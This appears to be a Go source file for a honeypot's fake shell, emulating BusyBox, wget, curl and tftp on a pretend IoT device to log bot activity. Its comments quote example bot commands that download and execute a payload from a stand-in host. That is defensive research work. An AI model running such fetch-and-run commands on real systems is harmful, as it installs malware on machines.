@@ -0,0 +1,440 @@
+package shell
+
+import (
+	"fmt"
+	"io"
+	"net"
+	"net/url"
+	"path"
+	"strings"
+	"time"
+)
+
+const (
+	// Maximum number of nested shells, e.g., a script running itself
+	maxDepth = 8
+	// Maximum number of commands run for a line, including the ones of the scripts
+	// and the substitutions, e.g., a script running itself many times
+	maxCommands = 1000
+)
+
+// Applets of BusyBox. The ones not in the registry of applets run the command of the same name
+var applets = []string{
+	"cat", "chmod", "cp", "echo", "hostname", "id", "ls", "mkdir", "nproc",
+	"pwd", "rm", "sh", "tftp", "touch", "uname", "wget", "whoami",
+}
+
+func init() {
+	for name, command := range map[string]Command{
+		"busybox":  (*Shell).cBusybox,
+		"uname":    (*Shell).cUname,
+		"nproc":    (*Shell).cNproc,
+		"hostname": (*Shell).cHostname,
+		"id":       (*Shell).cId,
+		"whoami":   (*Shell).cWhoami,
+		"touch":    (*Shell).cTouch,
+		"cp":       (*Shell).cCp,
+		"sh":       (*Shell).cSh,
+		"bash":     (*Shell).cSh,
+		"wget":     (*Shell).cWget,
+		"curl":     (*Shell).cCurl,
+	} {
+		Commands.Register(name, command)
+	}
+
+	Applets.Register("wget", (*Shell).aWget)
+	Applets.Register("tftp", (*Shell).aTftp)
+}
+
+func isApplet(name string) bool {
+	for _, applet := range applets {
+		if applet == name {
+			return true
+		}
+	}
+	return false
+}
+
+// Parses the `busybox` command. Bots run an applet that does not exist, e.g., `/bin/busybox ECCHI`,
+// and wait for the error to know that the command before it ended
+func (s *Shell) cBusybox(args []string, in io.Reader, conn io.Writer) (err error) {
+	if len(args) == 1 || args[1] == "--help" {
+		fmt.Fprintf(conn, "BusyBox %s multi-call binary.\n", s.Persona.BusyBox)
+		fmt.Fprintf(conn, "BusyBox is copyrighted by many authors between 1998-2015.\n"+
+			"Licensed under GPLv2. See source distribution for detailed\ncopyright notices.\n\n"+
+			"Usage: busybox [function [arguments]...]\n   or: busybox --list[-full]\n"+
+			"   or: busybox --show SCRIPT\n   or: busybox --install [-s] [DIR]\n   or: function [arguments]...\n\n"+
+			"\tBusyBox is a multi-call binary that combines many common Unix\n"+
+			"\tutilities into a single executable.  Most people will create a\n"+
+			"\tlink to busybox for each function they wish to use and BusyBox\n"+
+			"\twill act like whatever it was invoked as.\n\n"+
+			"Currently defined functions:\n\t%s\n\n", strings.Join(applets, ", "))
+		return
+	}
+
+	name := args[1]
+	switch {
+	case name == "--list":
+		_, err = fmt.Fprintln(conn, strings.Join(applets, "\n"))
+		return
+	case !isApplet(name):
+		fmt.Fprintf(conn, "%s: applet not found\n", name)
+		return ExitStatus(127)
+	}
+
+	command, ok := Applets.Get(name)
+	if !ok {
+		command = s.lookup(name)
+	}
+	return command(s, args[1:], in, conn)
+}
+
+// Parses the `uname` command, with the flags of the system information
+func (s *Shell) cUname(args []string, in io.Reader, conn io.Writer) (err error) {
+	flags, _ := splitFlags(args[1:])
+	if flags == "" {
+		flags = "s"
+	}
+
+	p := s.Persona
+	values := map[byte]string{
+		's': p.Kernel, 'n': s.Host, 'r': p.Release, 'v': p.Version,
+		'm': p.Machine, 'p': p.Machine, 'i': p.Machine, 'o': p.OS,
+	}
+
+	// The information is always written in the same order
+	shown := map[byte]bool{}
+	for i := 0; i < len(flags); i++ {
+		if flags[i] == 'a' {
+			for c := range values {
+				shown[c] = true
+			}
+			continue
+		}
+		if _, ok := values[flags[i]]; !ok {
+			fmt.Fprintf(conn, "uname: invalid option -- '%c'\nTry 'uname --help' for more information.\n", flags[i])
+			return ExitStatus(1)
+		}
+		shown[flags[i]] = true
+	}
+
+	out := []string{}
+	for _, c := range []byte("snrvmpio") {
+		if shown[c] {
+			out = append(out, values[c])
+		}
+	}
+	_, err = fmt.Fprintln(conn, strings.Join(out, " "))
+	return
+}
+
+// Parses the `nproc` command, with the processors of the persona
+func (s *Shell) cNproc(args []string, in io.Reader, conn io.Writer) (err error) {
+	cpus := 0
+	content, _ := s.FS.ReadFile("/proc/cpuinfo")
+	for _, line := range strings.Split(string(content), "\n") {
+		if strings.HasPrefix(line, "processor") {
+			cpus++
+		}
+	}
+	if cpus == 0 {
+		cpus = 1
+	}
+
+	_, err = fmt.Fprintln(conn, cpus)
+	return
+}
+
+// Parses the `hostname` command, the name can not be changed
+func (s *Shell) cHostname(args []string, in io.Reader, conn io.Writer) (err error) {
+	if _, names := splitFlags(args[1:]); len(names) > 0 {
+		fmt.Fprintf(conn, "hostname: you must be root to change the host name\n")
+		return ExitStatus(1)
+	}
+
+	_, err = fmt.Fprintln(conn, s.Host)
+	return
+}
+
+// Parses the `id` command, with the user of the shell as found in /etc/passwd
+func (s *Shell) cId(args []string, in io.Reader, conn io.Writer) (err error) {
+	uid, gid := "1000", "1000"
+	content, _ := s.FS.ReadFile("/etc/passwd")
+	for _, line := range strings.Split(string(content), "\n") {
+		if fields := strings.Split(line, ":"); len(fields) > 3 && fields[0] == s.User {
+			uid, gid = fields[2], fields[3]
+			break
+		}
+	}
+
+	group := s.User
+	if uid == "0" {
+		group = "root"
+	}
+	_, err = fmt.Fprintf(conn, "uid=%s(%s) gid=%s(%s) groups=%s(%s)\n", uid, s.User, gid, group, gid, group)
+	return
+}
+
+// Parses the `whoami` command
+func (s *Shell) cWhoami(args []string, in io.Reader, conn io.Writer) (err error) {
+	_, err = fmt.Fprintln(conn, s.User)
+	return
+}
+
+// Parses the `touch` command, creating the files that do not exist
+func (s *Shell) cTouch(args []string, in io.Reader, conn io.Writer) (err error) {
+	_, names := splitFlags(args[1:])
+	if len(names) == 0 {
+		fmt.Fprintf(conn, "touch: missing file operand\nTry 'touch --help' for more information.\n")
+		return ExitStatus(1)
+	}
+
+	for _, name := range names {
+		if writeErr := s.FS.WriteFile(s.abs(name), nil, true); writeErr != nil {
+			fmt.Fprintf(conn, "touch: cannot touch '%s': %s\n", name, writeErr)
+			err = ExitStatus(1)
+		}
+	}
+	return
+}
+
+// Parses the `cp` command, with the flag -r. Bots copy a binary of the system to
+// have an executable file, e.g., `cp /bin/echo dvrHelper`, and then write their own
+func (s *Shell) cCp(args []string, in io.Reader, conn io.Writer) (err error) {
+	flags, names := splitFlags(args[1:])
+	recursive := strings.ContainsAny(flags, "rRa")
+
+	if len(names) < 2 {
+		fmt.Fprintf(conn, "cp: missing file operand\nTry 'cp --help' for more information.\n")
+		return ExitStatus(1)
+	}
+
+	target := names[len(names)-1]
+	dir, statErr := s.FS.Stat(s.abs(target))
+	toDir := statErr == nil && dir.IsDir()
+	if len(names) > 2 && !toDir {
+		fmt.Fprintf(conn, "cp: target '%s' is not a directory\n", target)
+		return ExitStatus(1)
+	}
+
+	for _, name := range names[:len(names)-1] {
+		src, dst := s.abs(name), s.abs(target)
+		if toDir {
+			dst = path.Join(dst, path.Base(src))
+		}
+
+		f, statErr := s.FS.Stat(src)
+		switch {
+		case statErr != nil:
+			fmt.Fprintf(conn, "cp: cannot stat '%s': %s\n", name, statErr)
+		case f.IsDir() && !recursive:
+			fmt.Fprintf(conn, "cp: -r not specified; omitting directory '%s'\n", name)
+		case f.IsDir() && (dst == src || strings.HasPrefix(dst, src+"/")):
+			fmt.Fprintf(conn, "cp: cannot copy a directory, '%s', into itself, '%s'\n", name, target)
+		default:
+			if copyErr := s.copy(src, dst); copyErr != nil {
+				fmt.Fprintf(conn, "cp: cannot create regular file '%s': %s\n", target, copyErr)
+			} else {
+				continue
+			}
+		}
+		err = ExitStatus(1)
+	}
+	return
+}
+
+// Copy a file, or a directory and its content, keeping the permissions
+func (s *Shell) copy(src string, dst string) error {
+	f, err := s.FS.Stat(src)
+	if err != nil {
+		return err
+	}
+
+	if f.IsDir() {
+		if err := s.FS.Mkdir(dst, true); err != nil {
+			return err
+		}
+		entries, _ := s.FS.ReadDir(src)
+		for _, e := range entries {
+			if err := s.copy(path.Join(src, e.Name), path.Join(dst, e.Name)); err != nil {
+				return err
+			}
+		}
+	} else if err := s.FS.WriteFile(dst, f.Content, false); err != nil {
+		return err
+	}
+	return s.FS.Chmod(dst, f.Mode)
+}
+
+// Parses the `sh` command, running the commands given with -c, the ones of a script,
+// or the ones of the input, e.g., `wget -O- http://192.0.2.1/a.sh | sh`
+func (s *Shell) cSh(args []string, in io.Reader, conn io.Writer) (err error) {
+	if s.depth >= maxDepth {
+		return
+	}
+
+	s.depth++
+	defer func() { s.depth-- }()
+
+	var script []byte
+	for i := 1; i < len(args) && script == nil; i++ {
+		switch {
+		case args[i] == "-c":
+			if i+1 < len(args) {
+				s.commands(args[i+1], conn)
+			}
+			return s.result()
+		case strings.HasPrefix(args[i], "-"):
+			continue
+		}
+
+		if script, err = s.FS.ReadFile(s.abs(args[i])); err != nil {
+			fmt.Fprintf(conn, "%s: %s: %s\n", args[0], args[i], err)
+			return ExitStatus(127)
+		}
+	}
+
+	// Interactive shells continue in the same terminal
+	if script == nil {
+		if in == nil {
+			return
+		}
+		script, _ = io.ReadAll(in)
+	}
+
+	s.commands(string(script), conn)
+	return s.result()
+}
+
+// Returns the URLs of the arguments of a downloader, skipping the values of the given flags, e.g., "-O"
+func downloadURLs(args []string, valued string) (urls []*url.URL, quiet bool) {
+	for i := 1; i < len(args); i++ {
+		arg := args[i]
+		switch {
+		case len(arg) == 2 && arg[0] == '-' && strings.IndexByte(valued, arg[1]) >= 0:
+			i++
+		case arg == "-q" || arg == "-s" || arg == "--quiet" || arg == "--silent":
+			quiet = true
+		case strings.HasPrefix(arg, "-"):
+		default:
+			if !strings.Contains(arg, "://") {
+				arg = "http://" + arg
+			}
+			if u, err := url.Parse(arg); err == nil && u.Hostname() != "" {
+				urls = append(urls, u)
+			}
+		}
+	}
+	return
+}
+
+// Returns the port of a URL, with the default of its scheme
+func port(u *url.URL) string {
+	if p := u.Port(); p != "" {
+		return p
+	}
+	switch u.Scheme {
+	case "https":
+		return "443"
+	case "ftp":
+		return "21"
+	}
+	return "80"
+}
+
+// Parses the `wget` command. The downloads never reach the outside, the URLs are kept by
+// the events of the commands, and downloaded by the artifacts when enabled
+func (s *Shell) cWget(args []string, in io.Reader, conn io.Writer) (err error) {
+	urls, quiet := downloadURLs(args, "OoPUTte")
+	if len(urls) == 0 {
+		fmt.Fprintf(conn, "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n")
+		return ExitStatus(1)
+	}
+	if quiet {
+		return ExitStatus(4)
+	}
+
+	for _, u := range urls {
+		host := u.Hostname()
+		fmt.Fprintf(conn, "--%s--  %s\n", time.Now().UTC().Format("2006-01-02 15:04:05"), u)
+		if net.ParseIP(host) == nil {
+			fmt.Fprintf(conn, "Resolving %s (%s)... failed: Temporary failure in name resolution.\n", host, host)
+			fmt.Fprintf(conn, "wget: unable to resolve host address '%s'\n", host)
+			continue
+		}
+		fmt.Fprintf(conn, "Connecting to %s:%s... failed: Connection timed out.\nGiving up.\n\n", host, port(u))
+	}
+	return ExitStatus(4)
+}
+
+// Parses the `curl` command, failing as `wget`
+func (s *Shell) cCurl(args []string, in io.Reader, conn io.Writer) (err error) {
+	urls, quiet := downloadURLs(args, "oAHdXueFmTx")
+	if len(urls) == 0 {
+		fmt.Fprintf(conn, "curl: try 'curl --help' or 'curl --manual' for more information\n")
+		return ExitStatus(2)
+	}
+
+	host := urls[0].Hostname()
+	if net.ParseIP(host) == nil {
+		if !quiet {
+			fmt.Fprintf(conn, "curl: (6) Could not resolve host: %s\n", host)
+		}
+		return ExitStatus(6)
+	}
+	if !quiet {
+		fmt.Fprintf(conn, "curl: (28) Failed to connect to %s port %s after 129674 ms: Connection timed out\n", host, port(urls[0]))
+	}
+	return ExitStatus(28)
+}
+
+// Parses the `wget` applet of BusyBox
+func (s *Shell) aWget(args []string, in io.Reader, conn io.Writer) (err error) {
+	urls, quiet := downloadURLs(args, "OoPUTYe")
+	if len(urls) == 0 {
+		_, err = fmt.Fprintf(conn, "BusyBox %s multi-call binary.\n\nUsage: wget [-c|--continue] [--spider] [-q|--quiet] [-O|--output-document FILE]\n"+
+			"\t[--header 'header: value'] [-Y|--proxy on/off] [-P DIR]\n\t[-S|--server-response] [-U|--user-agent AGENT] [-T SEC] URL...\n\n"+
+			"Retrieve files via HTTP or FTP\n", s.Persona.BusyBox)
+		return ExitStatus(1)
+	}
+
+	host := urls[0].Hostname()
+	if net.ParseIP(host) == nil {
+		fmt.Fprintf(conn, "wget: bad address '%s'\n", host)
+		return ExitStatus(1)
+	}
+	if !quiet {
+		fmt.Fprintf(conn, "Connecting to %s (%s:%s)\n", urls[0].Host, host, port(urls[0]))
+	}
+	fmt.Fprintf(conn, "wget: can't connect to remote host (%s): Connection timed out\n", host)
+	return ExitStatus(1)
+}
+
+// Parses the `tftp` applet of BusyBox, e.g., `tftp -g -r bot -l bot 192.0.2.1`
+func (s *Shell) aTftp(args []string, in io.Reader, conn io.Writer) (err error) {
+	hosts := []string{}
+	for i := 1; i < len(args); i++ {
+		switch args[i] {
+		case "-l", "-r", "-b":
+			i++
+		default:
+			if !strings.HasPrefix(args[i], "-") {
+				hosts = append(hosts, args[i])
+			}
+		}
+	}
+
+	if len(hosts) == 0 {
+		_, err = fmt.Fprintf(conn, "BusyBox %s multi-call binary.\n\nUsage: tftp [OPTIONS] HOST [PORT]\n\n"+
+			"Transfer a file from/to tftp server\n\n\t-l FILE\tLocal FILE\n\t-r FILE\tRemote FILE\n"+
+			"\t-g\tGet file\n\t-p\tPut file\n\t-b SIZE\tTransfer blocks of SIZE octets\n", s.Persona.BusyBox)
+		return ExitStatus(1)
+	}
+
+	if net.ParseIP(hosts[0]) == nil {
+		fmt.Fprintf(conn, "tftp: bad address '%s'\n", hosts[0])
+		return ExitStatus(1)
+	}
+	fmt.Fprintf(conn, "tftp: timeout\n")
+	return ExitStatus(1)
+}